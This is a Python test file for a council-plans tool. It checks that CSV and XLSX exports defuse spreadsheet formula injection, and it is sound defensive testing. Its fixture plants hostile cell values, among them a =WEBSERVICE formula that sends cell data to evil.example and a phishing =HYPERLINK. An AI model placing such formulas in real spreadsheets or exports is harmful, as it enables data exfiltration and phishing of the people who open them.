"""Issue 15 item 6: plan text never becomes a live formula in any export (CSV or XLSX), numbers stay numbers.

Every path a spreadsheet is written by is tried with one hostile plan (a fixture built from testshire):
the CLI's XLSX, CSV files, CSV folder and zip (as real processes), the dashboard's *Download CSV* helper and
button, the dashboard's workbook and its download button. Each one must carry the hostile text (so nothing is
lost) but never as a formula: CSV cells start with ``'``, XLSX cells are strings with the quote prefix and no
cell anywhere has openpyxl's formula type ``"f"``.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from loaders import load_corpus
from loaders.export import csv_text, write_export, zip_bytes
from loaders.safe_cells import FORMULA_STARTS, csv_cell, csv_safe_frame, xlsx_text
from tests.conftest import FIXTURES, ROOT, plan_problems

#: The hostile strings the fixture plants, each in a different field (council name, title, text, owner, ...).
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/phish","Testshire")',
    "title": '=HYPERLINK("http://evil.example","click")',
    "text": '=WEBSERVICE("http://evil.example/?q="&A1)',
    "owner": "+Chief Executive",
    "timescale": "-1+2",
    "status": "@SUM(1+1)",
}


def _hostile_plan() -> str:
    text = (FIXTURES / "testshire-2024.yaml").read_text(encoding="utf-8")
    edits = {
        "name: Testshire District Council": f"name: '{HOSTILE['name']}'",
        "title: Talk and listen to staff": f"title: '{HOSTILE['title']}'",
        "text: Run a staff survey": f"text: '{HOSTILE['text']}'",
        "owner: Chief Executive & Director of Resources": f"owner: '{HOSTILE['owner']}'",
        "timescale: April - June 2024": f"timescale: '{HOSTILE['timescale']}'\n    status: '{HOSTILE['status']}'",
    }
    for old, new in edits.items():
        assert old in text
        text = text.replace(old, new)
    return text


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-plans")
    (folder / "testshire-2024.yaml").write_text(_hostile_plan(), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def hostile_corpus(hostile_dir: Path):
    corpus = load_corpus(hostile_dir, cache=False)
    assert plan_problems(corpus.problems).empty, corpus.problems.to_dict("records")  # the plan itself is valid
    return corpus


#: OWASP's list, written out here rather than taken from the code under test.
STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    return text.startswith(STARTS)


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "loaders", *args], cwd=ROOT, capture_output=True, text=True, check=False, timeout=120
    )


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_safe(data: bytes, *, encoding: str = "utf-8-sig") -> list[list[str]]:
    """No cell of the CSV is formula-like text (numbers such as -3 are allowed), and every hostile string is
    there, prefixed with ``'``. Returns the rows."""
    rows = list(csv.reader(io.StringIO(data.decode(encoding))))
    live = [cell for row in rows for cell in row if is_formula_like(cell) and not _is_number(cell)]
    assert live == []
    return rows


def assert_hostile_kept(rows: list[list[str]], fields: list[str]) -> None:
    cells = {cell for row in rows for cell in row}
    for field in fields:
        assert "'" + HOSTILE[field] in cells, field


def assert_xlsx_safe(data: bytes | Path) -> dict[str, Any]:
    """No cell is a formula; every formula-like string is a string with the quote prefix. Returns the text
    cells' values by sheet."""
    book = openpyxl.load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    texts: dict[str, Any] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.setdefault(sheet.title, set()).add(cell.value)
                    if is_formula_like(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
    return texts


# --- the shared rule ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", STARTS)
def test_every_formula_start_is_prefixed_in_csv(start: str) -> None:
    assert set(FORMULA_STARTS) == set(STARTS)
    assert csv_cell(f"{start}cmd") == f"'{start}cmd"
    frame = pd.DataFrame({"t": [f"{start}cmd", "plain"], "n": [-3, 4]})
    assert csv_safe_frame(frame)["t"].tolist() == [f"'{start}cmd", "plain"]


def test_only_strings_are_prefixed_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {"n": [-3, 2], "x": [-1.5, 0.5], "t": ["-3", "ok"], "s": pd.Series(["=1", None], dtype="string")}
    )
    out = csv_safe_frame(frame)
    assert out["n"].dtype == frame["n"].dtype and out["n"].tolist() == [-3, 2]
    assert out["x"].tolist() == [-1.5, 0.5]
    assert out["t"].tolist() == ["'-3", "ok"]
    assert out["s"].tolist()[0] == "'=1"
    lines = csv_text(frame).decode("utf-8-sig").splitlines()
    assert lines[1] == "-3,-1.5,'-3,'=1"
    pd.testing.assert_frame_equal(frame, pd.DataFrame(frame))  # the caller's frame is untouched


def test_xlsx_text_removes_what_openpyxl_refuses() -> None:
    assert xlsx_text("a\x07b\x00c\x1fd") == ("abcd", True)
    assert xlsx_text("tab\tnew\nline\r") == ("tab\tnew\nline\r", False)  # XLSX holds these
    long, changed = xlsx_text("x" * 40_000)
    assert changed and len(long) < 32_767 and long.endswith("(cut: too long for one Excel cell)")


# --- the CLI, as a real process -----------------------------------------------------------------------------


def test_cli_xlsx_has_no_formula_and_keeps_numbers(hostile_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "plans.xlsx"
    done = _cli("export", str(hostile_dir), "--to", str(out))
    assert done.returncode == 0, done.stderr
    texts = assert_xlsx_safe(out)
    assert HOSTILE["name"] in texts["councils"]
    assert HOSTILE["title"] in texts["recommendations"]
    assert {HOSTILE["text"], HOSTILE["owner"], HOSTILE["timescale"], HOSTILE["status"]} <= texts["actions"]
    book = openpyxl.load_workbook(out)
    challenges = book["challenges"]
    header = [c.value for c in challenges[1]]
    declared = challenges.cell(row=2, column=header.index("recommendations_declared") + 1)
    assert declared.value == 2 and declared.data_type == "n"  # numbers are still numbers


@pytest.mark.parametrize("target", ["plans.csv", "plans.zip", "folder"])
def test_cli_csv_zip_and_folder_prefix_formulas(hostile_dir: Path, tmp_path: Path, target: str) -> None:
    out = tmp_path / target
    done = _cli("export", str(hostile_dir), "--to", str(out))
    assert done.returncode == 0, done.stderr
    if target.endswith(".zip"):
        with zipfile.ZipFile(out) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
    elif target.endswith(".csv"):
        files = {p.name: p.read_bytes() for p in tmp_path.glob("plans-*.csv")}
    else:
        files = {p.name: p.read_bytes() for p in out.glob("*.csv")}
    assert len(files) == 8
    rows = [row for data in files.values() for row in assert_csv_safe(data)]
    assert_hostile_kept(rows, list(HOSTILE))


def test_cli_single_frame_csv_and_zip_bytes(hostile_corpus, tmp_path: Path) -> None:
    out = tmp_path / "actions.csv"
    write_export({"actions": hostile_corpus.actions}, out)
    assert_hostile_kept(assert_csv_safe(out.read_bytes()), ["text", "owner", "timescale", "status"])
    with zipfile.ZipFile(io.BytesIO(zip_bytes({"councils": hostile_corpus.councils}))) as archive:
        assert_hostile_kept(assert_csv_safe(archive.read("councils.csv")), ["name"])


def test_cli_negative_numbers_stay_numbers_in_xlsx(tmp_path: Path) -> None:
    frame = pd.DataFrame({"n": [-3, 5], "t": ["-3", "=1+1"], "d": pd.to_datetime(["2024-01-02", None])})
    out = tmp_path / "n.xlsx"
    write_export({"numbers": frame}, out)
    sheet = openpyxl.load_workbook(out)["numbers"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (-3, "n")
    assert (sheet["B2"].value, sheet["B2"].data_type, sheet["B2"].quotePrefix) == ("-3", "s", True)
    assert (sheet["B3"].value, sheet["B3"].data_type) == ("=1+1", "s")
    assert sheet["C2"].is_date and sheet["C3"].value is None
    assert_xlsx_safe(out)


# --- the dashboard ------------------------------------------------------------------------------------------


class _Captured:
    """Stands in for ``st.download_button``: keeps the data callable so the test builds the real file."""

    def __init__(self) -> None:
        self.calls: list[dict[str, Any]] = []

    def __call__(self, label: str, data: Any, **kwargs: Any) -> bool:
        self.calls.append({"label": label, "data": data, **kwargs})
        return False

    def file(self) -> bytes:
        (call,) = self.calls
        data = call["data"]
        return data() if callable(data) else data


def test_download_csv_helper_and_button_prefix_formulas(hostile_corpus, monkeypatch: pytest.MonkeyPatch) -> None:
    import ui.components as components

    table = hostile_corpus.actions[["action_id", "text", "owners", "timescale_raw", "status", "order"]]
    assert_hostile_kept(assert_csv_safe(components.csv_bytes(table), encoding="utf-8"), ["text", "timescale"])
    rows = list(csv.reader(io.StringIO(components.csv_bytes(table).decode("utf-8"))))
    assert rows[1][2] == "'" + HOSTILE["owner"]  # a list cell ("a; b") is guarded after joining
    button = _Captured()
    monkeypatch.setattr(components.st, "download_button", button)
    components.download_csv(table, file_name="actions.csv", key="t")
    assert_hostile_kept(assert_csv_safe(button.file(), encoding="utf-8"), ["text", "owner", "timescale", "status"])
    numbers = components.csv_bytes(pd.DataFrame({"n": [-3], "t": ["-3"]})).decode("utf-8").splitlines()
    assert numbers == ["n,t", "-3,'-3"]


def test_dashboard_workbook_and_its_button_keep_text_as_text(hostile_corpus, monkeypatch: pytest.MonkeyPatch) -> None:
    import ui.exports as exports
    from reports.workbook import workbook_bytes
    from tests.helpers import view_of

    view = view_of(hostile_corpus)
    texts = assert_xlsx_safe(workbook_bytes(view))
    assert HOSTILE["name"] in texts["councils"] and HOSTILE["title"] in texts["recommendations"]
    button = _Captured()
    monkeypatch.setattr(exports.st, "download_button", button)
    exports.workbook_download(view)
    texts = assert_xlsx_safe(button.file())
    assert {HOSTILE["text"], HOSTILE["owner"], HOSTILE["status"]} <= texts["actions"]
    frame = pd.DataFrame({"n": [-3], "t": ["-3"]})
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"recommendations": frame}, sources=[])))[
        "recommendations"
    ]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (-3, "n")
    assert (sheet["B2"].value, sheet["B2"].quotePrefix) == ("-3", True)
